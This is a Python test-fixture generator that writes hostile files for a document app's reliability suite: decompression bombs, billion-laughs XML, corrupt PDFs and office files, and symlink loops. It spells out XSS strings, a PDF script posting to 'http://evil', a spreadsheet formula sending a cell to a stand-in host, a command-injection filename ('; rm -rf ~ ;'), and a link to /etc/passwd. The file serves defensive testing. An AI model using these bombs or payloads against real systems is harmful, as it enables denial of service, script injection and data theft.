"""Hostile files for the reliability suite, made at run time and deterministic by seed.

Each family is a function `(rng, i, folder, big) -> list[Path]` that writes one entry (a file,
a link, a fifo or a folder) under `folder` and returns the paths it made; `big` chooses the
full-size bombs over the quick ones the test suite uses. Nothing here downloads anything:
PDFs, office files, PNGs and archives are written byte by byte with the standard library,
7z with py7zr (a Docket dependency), media with ffmpeg when it is installed.
"""

from __future__ import annotations

import gzip
import io
import os
import random
import shutil
import struct
import subprocess
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

Family = Callable[[random.Random, int, Path, bool], list[Path]]
WORDS = ("letter courier library caravan winter market garden river school medicine "
         "brother message family house money window").split()
XSS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
       "<svg onload=alert(1)>", "'--><iframe src=//evil>"]
FORMULAS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1,2)", "=1+1\tcell"]


def good_token(seed: int, family: str, i: int) -> str:
    """The word only one good file holds: searching it must find that file."""
    return f"zq{family.replace('_', '')}{seed}x{i}"


def _text(rng: random.Random, n: int = 40) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


def _zeros(zf_or_file, total: int, chunk: int = 1 << 20) -> None:
    block = b"\0" * chunk
    for _ in range(total // chunk):
        zf_or_file.write(block)


# PDF, written by hand -----------------------------------------------------------------------
def pdf_bytes(pages: list[bytes], info: bytes = b"", catalog_extra: bytes = b"",
              extra: tuple[bytes, ...] = (), stream_dicts: list[bytes] | None = None) -> bytes:
    """A small valid PDF: one content stream per page (raw bytes, or with its own dict
    entries such as a /Filter), a Helvetica font, an optional /Info and extra objects
    numbered after the pages."""
    n_pages = len(pages)
    objs: list[bytes] = [b""] * 3
    first_extra = 4 + 2 * n_pages
    objs[0] = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>"
    kids = b" ".join(b"%d 0 R" % (4 + 2 * k) for k in range(n_pages))
    objs[1] = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n_pages
    objs[2] = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    for k, content in enumerate(pages):
        objs.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources "
                    b"<< /Font << /F1 3 0 R >> /XObject << /Im1 %d 0 R >> >> "
                    b"/Contents %d 0 R >>" % (first_extra, 5 + 2 * k))
        head = (stream_dicts[k] if stream_dicts else b"")
        objs.append(b"<< /Length %d " % len(content) + head + b">>\nstream\n" + content
                    + b"\nendstream")
    objs.extend(extra)
    info_ref = b""
    if info:
        objs.append(info)
        info_ref = b" /Info %d 0 R" % len(objs)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % num + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R" % (len(objs) + 1) + info_ref
              + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def _page_text(text: str) -> bytes:
    safe = text.encode("latin-1", "replace").replace(b"(", b"").replace(b")", b"")
    return b"BT /F1 12 Tf 72 720 Td (" + safe + b") Tj ET"


def _gray_image(rng: random.Random, w: int = 120, h: int = 160) -> bytes:
    raw = bytes(rng.choice((0, 255, 255, 255)) for _ in range(w * h))
    data = zlib.compress(raw)
    return (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % (w, h, len(data))
            + data + b"\nendstream")


def broken_pdf(rng, i, folder, big):
    good = pdf_bytes([_page_text(_text(rng))])
    variants = [good[: rng.randint(20, len(good) - 20)],  # truncated
                b"%PDF-1.7\n" + rng.randbytes(4000),  # garbage after the header
                good.replace(b"xref", b"xre\0"),  # a broken cross-reference table
                b"%PDF-1.4\n1 0 obj\n" + b"[" * 20000 + b"]" * 20000 + b"\nendobj\n",  # nesting
                good.replace(b"/Root 1 0 R", b"/Root 99 0 R /Encrypt << /Filter /Standard >>")]
    path = folder / f"broken-{i}.pdf"
    path.write_bytes(variants[i % len(variants)])
    return [path]


def flate_bomb_pdf(rng, i, folder, big):
    size = (200 if big else 24) << 20  # spaces inflating from a few hundred KB
    comp = zlib.compressobj(9)
    block = b" " * (1 << 20)
    data = b"".join(comp.compress(block) for _ in range(size >> 20)) + comp.flush()
    path = folder / f"flate-bomb-{i}.pdf"
    path.write_bytes(pdf_bytes([data], stream_dicts=[b"/Filter /FlateDecode "]))
    return [path]


def pdf_javascript(rng, i, folder, big):
    js = b"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil'\\)) >>"
    title = XSS[i % len(XSS)].encode()
    path = folder / f"script-{i}.pdf"
    path.write_bytes(pdf_bytes([_page_text(_text(rng))], catalog_extra=b"/OpenAction " + js
                               + b" /AA << /WC " + js + b" >> ",
                               info=b"<< /Title (" + title + b") /Author (" + title + b") >>"))
    return [path]


def scan_pdf(rng, i, folder, big):
    pages = 500 if big else 4
    path = folder / f"scan-{pages}-pages-{i}.pdf"
    content = b"q 612 0 0 792 0 0 cm /Im1 Do Q"
    path.write_bytes(pdf_bytes([content] * pages, extra=(_gray_image(rng),)))
    return [path]


# archives -----------------------------------------------------------------------------------
def zip_bomb(rng, i, folder, big):
    path = folder / f"zeros-{i}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf, \
            zf.open("zeros.txt", "w", force_zip64=True) as member:
        _zeros(member, (1024 if big else 300) << 20)
    return [path]


def truncated_zip(rng, i, folder, big):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for k in range(5):
            zf.writestr(f"part-{k}.txt", _text(rng, 400))
    data = buf.getvalue()
    path = folder / f"truncated-{i}.zip"
    path.write_bytes(data[: rng.randint(30, len(data) - 30)])
    return [path]


def nested_zip(rng, i, folder, big):
    """42.zip: 16 identical archives per level, each level inside the next."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf, \
            zf.open("0.txt", "w") as member:
        _zeros(member, 4 << 20)
    data = inner.getvalue()
    for _level in range(5 if big else 4):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for k in range(16):
                zf.writestr(f"{k:x}.zip", data)
        data = buf.getvalue()
    path = folder / f"nested-42-{i}.zip"
    path.write_bytes(data)
    return [path]


def seven_zip_bomb(rng, i, folder, big):
    import py7zr

    path = folder / f"zeros-{i}.7z"
    size = (300 if big else 40) << 20
    with py7zr.SevenZipFile(path, "w") as archive:
        archive.writef(io.BytesIO(b"\0" * size), "zeros.bin")
    return [path]


def rar_bomb(rng, i, folder, big):
    """RAR: with the rar tool a real bomb; without it (it is not free software, so usually)
    a RAR 4/5 signature whose headers promise gigabytes, followed by noise."""
    path = folder / f"zeros-{i}.rar"
    if shutil.which("rar"):
        src = folder / f".rar-src-{i}"
        with open(src, "wb") as f:
            _zeros(f, (300 if big else 40) << 20)
        subprocess.run(["rar", "a", "-m5", "-inul", str(path), str(src)], check=False)
        src.unlink()
        if path.exists():
            return [path]
    if i % 2:
        head = b"Rar!\x1a\x07\x00" + struct.pack("<HBHH", 0x90CF, 0x74, 0x8000, 32) \
            + struct.pack("<IIB", 0xFFFFFFF0, 0xFFFFFFF0, 0) + rng.randbytes(64)
    else:
        head = b"Rar!\x1a\x07\x01\x00" + bytes([0x33, 0x92, 0xB5, 0xE5, 0x0A, 0x01, 0x05,
                                                0x06, 0x00, 0x05, 0x01, 0x01, 0x80, 0x80, 0x00])
    path.write_bytes(head + rng.randbytes(4096))
    return [path]


def gzip_tar_bombs(rng, i, folder, big):
    if i % 2:
        path = folder / f"zeros-{i}.gz"
        with gzip.open(path, "wb", compresslevel=9) as f:
            _zeros(f, (1024 if big else 200) << 20)
        return [path]
    path = folder / f"many-members-{i}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for k in range(12000 if big else 6000):
            info = tarfile.TarInfo(f"m/{k}.txt")
            tar.addfile(info, io.BytesIO(b""))
    return [path]


# media --------------------------------------------------------------------------------------
def _ffmpeg(args: list[str], out: Path) -> bytes | None:
    if not shutil.which("ffmpeg"):
        return None
    subprocess.run(["ffmpeg", "-v", "quiet", "-y", *args, "-fflags", "+bitexact", str(out)],
                   check=False, stdin=subprocess.DEVNULL, timeout=120)
    data = out.read_bytes() if out.exists() else None
    out.unlink(missing_ok=True)
    return data


def corrupt_media(rng, i, folder, big):
    ext = ("mp3", "mp4", "wav", "ogg")[i % 4]
    scratch = folder / f".media-{i}.{ext}"
    source = ["-f", "lavfi", "-i", "sine=frequency=440:duration=2"]
    if ext == "mp4":
        source = ["-f", "lavfi", "-i", "testsrc=size=64x64:rate=5:duration=2", "-pix_fmt",
                  "yuv420p"]
    data = _ffmpeg(source, scratch) or (b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + rng.randbytes(2000))
    data = bytearray(data)
    mode = (i // 4) % 3
    if mode == 0:
        data = data[: len(data) // 3]  # truncated
    elif mode == 1:
        for _ in range(60):  # bytes flipped
            data[rng.randrange(len(data))] = rng.randrange(256)
    else:
        data[:4] = b"\xff\xff\xff\xff"  # a lying header
    path = folder / f"corrupt-{i}.{ext}"
    path.write_bytes(bytes(data))
    return [path]


# text and names -----------------------------------------------------------------------------
def wrong_extension(rng, i, folder, big):
    choices = [(pdf_bytes([_page_text(_text(rng))]), "txt"), (_text(rng).encode(), "pdf"),
               (_small_zip(rng), "docx"), (_png(64, 64), "mp3"), (_text(rng).encode(), "exe"),
               (b"\x89PNG\r\n\x1a\n" + rng.randbytes(300), "png")]
    data, ext = choices[i % len(choices)]
    path = folder / f"wrong-{i}.{ext}"
    path.write_bytes(data)
    return [path]


def odd_encoding(rng, i, folder, big):
    arabic = "رسالة إلى الأخ الكريم عن المكتبة والقافلة في الشتاء " * 8
    english = "The courier carried the letters to the library in winter. " * 8
    choices = [arabic.encode("cp1256"), ("│ box ├─┤ " * 40).encode("cp437"),
               arabic.encode("utf-16-le"), english.encode("cp500"),
               english.encode("utf-32-be"), arabic.encode("iso-8859-6"),
               b"\0".join(w.encode() for w in english.split()),
               rng.randbytes(3000)]
    path = folder / f"encoding-{i}.txt"
    path.write_bytes(choices[i % len(choices)])
    return [path]


def empty_file(rng, i, folder, big):
    path = folder / f"empty-{i}.{('txt', 'pdf', 'docx', 'zip', 'mp3', 'eml')[i % 6]}"
    path.write_bytes(b"")
    return [path]


def huge_line(rng, i, folder, big):
    size = (60 if big else 3) << 20
    line = (_text(rng, 200) + " ").encode()
    path = folder / f"one-line-{i}.txt"
    with open(path, "wb") as f:
        for _ in range(size // len(line)):
            f.write(line)
    return [path]


def hostile_name(rng, i, folder, big):
    tail = f"-{i}.txt"
    names = [b"bad-\xff\xfe" + tail.encode(), "new\nline" + tail, "-rf --help" + tail,
             "x" * 230 + tail, "\u202etxt.exe" + tail, "<script>" + tail, "; rm -rf ~ ;" + tail,
             "\u0631\u0633\u0627\u0644\u0629" + tail, b"\x81\x8a\xc7-cp1256" + tail.encode(),
             f" spaces {i} .txt"]
    name = names[i % len(names)]
    raw = name if isinstance(name, bytes) else name.encode()
    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), raw)))
    path.write_text(f"{_text(rng)} {good_token(rng.seed_value, 'hostile_name', i)}\n")
    return [path]


def special_entry(rng, i, folder, big):
    kind = i % 5
    path = folder / f"special-{i}"
    if kind == 0:
        os.mkfifo(path)
    elif kind == 1:
        os.symlink(f"special-{i}-b", path)
        os.symlink(f"special-{i}", folder / f"special-{i}-b")
        return [path, folder / f"special-{i}-b"]
    elif kind == 2:
        os.symlink("/etc/passwd", path)  # outside the collection: never followed
    elif kind == 3:
        path.mkdir()
        os.symlink("..", path / "loop")  # a folder loop
        return [path / "loop"]
    else:
        os.symlink(f"missing-{i}", path)  # dangling
    return [path]


def deep_folder(rng, i, folder, big):
    path = folder / f"deep-{i}"
    for _ in range(150 if big else 40):
        path = path / "d"
    path.mkdir(parents=True)
    path = path / "bottom.txt"
    path.write_text(f"{_text(rng)} {good_token(rng.seed_value, 'deep_folder', i)}\n")
    return [path]


# markup, office, mail, images ---------------------------------------------------------------
def xss_metadata(rng, i, folder, big):
    payload = XSS[i % len(XSS)]
    if i % 2:
        path = folder / f"xss-{i}.html"
        path.write_text(f"<html><head><title>{payload}</title><meta name=author content='"
                        f"{payload}'></head><body><p>{_text(rng)}</p>{payload}</body></html>")
    else:
        path = folder / f"xss-{i}.docx"
        path.write_bytes(_docx(_text(rng), title=payload))
    return [path]


def formula_cells(rng, i, folder, big):
    cells = [FORMULAS[(i + k) % len(FORMULAS)] for k in range(4)]
    if i % 2:
        path = folder / f"formulas-{i}.csv"
        path.write_text("name,value\n" + "\n".join(f'"{c}",{k}' for k, c in enumerate(cells)))
    else:
        path = folder / f"formulas-{i}.xlsx"
        path.write_bytes(_xlsx(cells))
    return [path]


def xml_bomb(rng, i, folder, big):
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{k} "{("&lol%s;" % (k - 1 if k > 1 else "")) * 10}">'
                     for k in range(1, 10)) + ']>')
    body = lol + "<lolz>&lol9;</lolz>"
    if i % 2:
        path = folder / f"laughs-{i}.xml"
        path.write_text(body)
    else:
        path = folder / f"laughs-{i}.docx"
        path.write_bytes(_docx("", document_xml=body))
    return [path]


def hostile_mail(rng, i, folder, big):
    boundary = "b0undary"
    parts = [f"--{boundary}\nContent-Type: text/plain\n\n{_text(rng)}\n"]
    for k in range(300 if big else 60):
        parts.append(f"--{boundary}\nContent-Type: application/octet-stream\n"
                     f"Content-Disposition: attachment; filename=\"../../etc/a{k}.txt\"\n"
                     f"Content-Transfer-Encoding: base64\n\nbm90aGluZw==\n")
    nested = f"Subject: {XSS[i % len(XSS)]}\n\nInner {_text(rng, 5)}\n"
    for _ in range(12):  # message inside message inside message
        nested = f"Content-Type: message/rfc822\n\n{nested}"
    parts.append(f"--{boundary}\n{nested}\n")
    path = folder / f"mail-{i}.eml"
    path.write_text(f"From: <x@example.org>\nSubject: {XSS[i % len(XSS)]}\nMIME-Version: 1.0\n"
                    f"Content-Type: multipart/mixed; boundary={boundary}\n\n"
                    + "".join(parts) + f"--{boundary}--\n")
    return [path]


def image_bomb(rng, i, folder, big):
    side = 60000 if i % 2 else 20000
    path = folder / f"pixels-{i}.png"
    path.write_bytes(_png(side, side))
    return [path]


def broken_office(rng, i, folder, big):
    ext = ("docx", "xlsx", "pptx", "odt", "doc", "xls")[i % 6]
    if ext in ("doc", "xls"):
        data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(5000)  # OLE, then noise
    else:
        data = _docx(_text(rng))[: -rng.randint(40, 400)]  # a cut-off zip
    path = folder / f"broken-office-{i}.{ext}"
    path.write_bytes(data)
    return [path]


def good_file(rng, i, folder, big):
    path = folder / "good" / f"good-{i}.txt"
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"{_text(rng)} {good_token(rng.seed_value, 'good', i)}\n")
    return [path]


def _small_zip(rng) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("a.txt", _text(rng))
    return buf.getvalue()


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + \
            struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    rows = zlib.compress(b"\0" * (min(width, 256) + 1) * 4)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0,
                                                                0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


def _docx(text: str, title: str = "", document_xml: str | None = None) -> bytes:
    buf = io.BytesIO()
    body = document_xml or (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        + text.replace("<", "&lt;") + "</w:t></w:r></w:p></w:body></w:document>")
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.'
                    'openxmlformats.org/package/2006/content-types"><Override PartName="/word/'
                    'document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                    'wordprocessingml.document.main+xml"/></Types>')
        zf.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                    'openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
                    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    'officeDocument" Target="word/document.xml"/></Relationships>')
        zf.writestr("word/document.xml", body)
        zf.writestr("docProps/core.xml", '<?xml version="1.0"?><cp:coreProperties xmlns:cp='
                    '"http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
                    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>'
                    + title.replace("&", "&amp;").replace("<", "&lt;")
                    + "</dc:title></cp:coreProperties>")
    return buf.getvalue()


def _xlsx(cells: list[str]) -> bytes:
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(f'<row r="{k + 1}"><c r="A{k + 1}" t="inlineStr"><is><t>'
                   f'{c.replace("&", "&amp;").replace("<", "&lt;")}</t></is></c>'
                   f'<c r="B{k + 1}"><f>SUM(1,{k})</f></c></row>' for k, c in enumerate(cells))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.'
                    'openxmlformats.org/package/2006/content-types"><Override PartName="/xl/'
                    'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                    'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
                    'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                    'spreadsheetml.worksheet+xml"/></Types>')
        zf.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.'
                    f'openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
                    f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        zf.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook {ns} xmlns:r="{rel}">'
                    '<sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>')
        zf.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns='
                    '"http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="r1" Type="{rel}/worksheet" Target="worksheets/'
                    'sheet1.xml"/></Relationships>')
        zf.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet {ns}>'
                    f"<sheetData>{rows}</sheetData></worksheet>")
    return buf.getvalue()


FAMILIES: dict[str, Family] = {
    "broken_pdf": broken_pdf, "flate_bomb_pdf": flate_bomb_pdf,
    "pdf_javascript": pdf_javascript, "scan_pdf": scan_pdf, "zip_bomb": zip_bomb,
    "truncated_zip": truncated_zip, "nested_zip": nested_zip, "seven_zip_bomb": seven_zip_bomb,
    "rar_bomb": rar_bomb, "gzip_tar_bomb": gzip_tar_bombs, "corrupt_media": corrupt_media,
    "wrong_extension": wrong_extension, "odd_encoding": odd_encoding, "empty_file": empty_file,
    "huge_line": huge_line, "hostile_name": hostile_name, "special_entry": special_entry,
    "deep_folder": deep_folder, "xss_metadata": xss_metadata, "formula_cells": formula_cells,
    "xml_bomb": xml_bomb, "hostile_mail": hostile_mail, "image_bomb": image_bomb,
    "broken_office": broken_office, "good": good_file,
}
# Families whose every file holds its good_token: all of them must be found by search.
SEARCHABLE = ("good", "hostile_name", "deep_folder")
# Costly families: the full run makes fewer of them (each is a bomb of its own).
COSTLY = {"zip_bomb": 4, "seven_zip_bomb": 3, "gzip_tar_bomb": 4, "flate_bomb_pdf": 4,
          "scan_pdf": 2, "huge_line": 3, "nested_zip": 4, "rar_bomb": 6}


class SeededRandom(random.Random):
    """random.Random that remembers its seed (the good tokens are built from it)."""

    def __init__(self, seed_value: int, salt: str):
        super().__init__(f"{seed_value}-{salt}")
        self.seed_value = seed_value


def plan(count: int) -> dict[str, int]:
    """How many entries of each family make `count` (at least one each; costly families
    capped, the rest shared out evenly, the remainder to good files)."""
    per = max(1, count // len(FAMILIES))
    out = {name: min(per, COSTLY.get(name, per)) for name in FAMILIES}
    spare = count - sum(out.values())
    cheap = [n for n in FAMILIES if n not in COSTLY]
    k = 0
    while spare > 0:
        out[cheap[k % len(cheap)]] += 1
        spare, k = spare - 1, k + 1
    return out


def generate(folder: Path, count: int, seed: int, big: bool) -> dict[str, list[Path]]:
    """Write about `count` hostile entries under `folder`; returns the paths per family."""
    folder.mkdir(parents=True, exist_ok=True)
    made: dict[str, list[Path]] = {}
    for name, n in plan(count).items():
        made[name] = []
        for i in range(n):
            made[name].extend(FAMILIES[name](SeededRandom(seed, f"{name}-{i}"), i, folder, big))
    return made
